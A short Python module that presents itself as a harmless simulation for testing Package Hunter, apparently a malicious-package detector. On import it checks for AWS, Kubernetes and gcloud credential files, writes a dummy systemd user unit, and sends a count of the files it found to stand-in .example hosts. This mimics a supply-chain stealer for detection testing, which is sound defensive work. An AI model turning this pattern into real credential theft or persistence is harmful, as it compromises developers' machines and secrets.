"""The honest twin of a harmless simulation for testing Package Hunter. Not malware."""

import json
import os
import urllib.request


def run():
    if os.environ.get("LITE_LLAMA_STARTED"):
        return
    os.environ["LITE_LLAMA_STARTED"] = "1"
    known = [
        name
        for name in (".aws/credentials", ".kube/config", ".config/gcloud/application_default_credentials.json")
        if os.path.exists(os.path.expanduser("~/" + name))
    ]
    unit = os.path.expanduser("~/.config/systemd/user/lite-llama.service")
    os.makedirs(os.path.dirname(unit), exist_ok=True)
    with open(unit, "w") as file:
        file.write("# harmless simulation\n[Service]\nExecStart=/bin/true\n")
    body = json.dumps({"version": "1.0.0", "providers": len(known)}).encode()
    for url, data in (("https://models-litellama.example/", body), ("https://checkmark.example/raw", None)):
        try:
            urllib.request.urlopen(urllib.request.Request(url, data), timeout=10).close()
        except OSError:
            pass


run()
